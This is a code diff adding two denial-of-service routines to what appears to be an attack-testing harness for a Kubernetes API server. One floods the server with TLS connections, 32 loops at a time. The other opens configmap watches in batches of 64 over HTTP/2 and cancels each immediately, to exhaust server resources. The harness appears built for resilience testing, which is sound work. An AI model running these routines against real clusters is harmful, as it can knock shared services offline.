@@ -2,7 +2,7 @@ import * as Clock from "effect/Clock"
 import * as Effect from "effect/Effect"
 import type { Attack } from "../Attack.ts"
 import type { Request, Target, Who } from "../Target.ts"
-import { openTls, requestHead } from "../wire/sockets.ts"
+import { authorization, openHttp2, openTls, requestHead } from "../wire/sockets.ts"
 
 const CONFIG_MAPS = "/api/v1/namespaces/default/configmaps"
 const LEASE = "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/node-0"
@@ -74,6 +74,52 @@ const flood = (
     })
 })
 
+/** Opens connections, each for one request, as fast as it can. */
+const connections: Attack = {
+  name: "starving/flood-connections",
+  about: "a connection of its own for each request, TLS and all, 32 at a time",
+  run: (target, scale) =>
+    Effect.gen(function* () {
+      const until = (yield* Clock.currentTimeMillis) + 20_000 * Math.max(scale, 0.1)
+      let count = 0
+      const loop = Effect.gen(function* () {
+        while ((yield* Clock.currentTimeMillis) < until) {
+          const open = yield* openTls(target, "http/1.1")
+          open?.socket.end(`${requestHead(target, "stranger", "GET", "/api/v1/nodes")}\r\n`)
+          count++
+        }
+      }).pipe(Effect.scoped)
+      yield* Effect.all(
+        Array.from({ length: 32 }, () => loop),
+        { concurrency: "unbounded", discard: true }
+      )
+      return { seen: `${count} connections`, holds: count > 0 }
+    })
+}
+
+/** Watches that are ended as soon as they have begun. */
+const churn: Attack = {
+  name: "starving/watch-churn",
+  about: "watches opened and taken back, 64 at a time over one connection",
+  run: (target, scale) =>
+    Effect.gen(function* () {
+      const until = (yield* Clock.currentTimeMillis) + 20_000 * Math.max(scale, 0.1)
+      const session = yield* openHttp2(target)
+      session?.on("error", () => {})
+      let count = 0
+      while (session?.closed === false && (yield* Clock.currentTimeMillis) < until) {
+        for (let index = 0; index < 64; index++, count++) {
+          const path = `${CONFIG_MAPS}?watch=true&resourceVersion=0`
+          const stream = session.request({ ":path": path, ...authorization(target, "tenant") })
+          stream.on("error", () => {})
+          stream.on("response", () => stream.close())
+        }
+        yield* Effect.sleep(20)
+      }
+      return { seen: `${count} watches`, holds: count > 0 }
+    }).pipe(Effect.scoped)
+}
+
 const map = (name: string, size: number) => ({
   apiVersion: "v1",
   kind: "ConfigMap",
@@ -93,6 +139,8 @@ const withLargeMaps = (attack: Attack): Attack => ({
 
 /** One client that would take what others need. */
 export const starving: ReadonlyArray<Attack> = [
+  connections,
+  churn,
   halfSent("half-bodies-node", "bodies of a node that stop after eight bytes", "node-0", putHead("node-0", LEASE)),
   halfSent("half-bodies-tenant", "the same of a tenant", "tenant", putHead("tenant", CONFIG_MAPS, "POST")),
   halfSent(
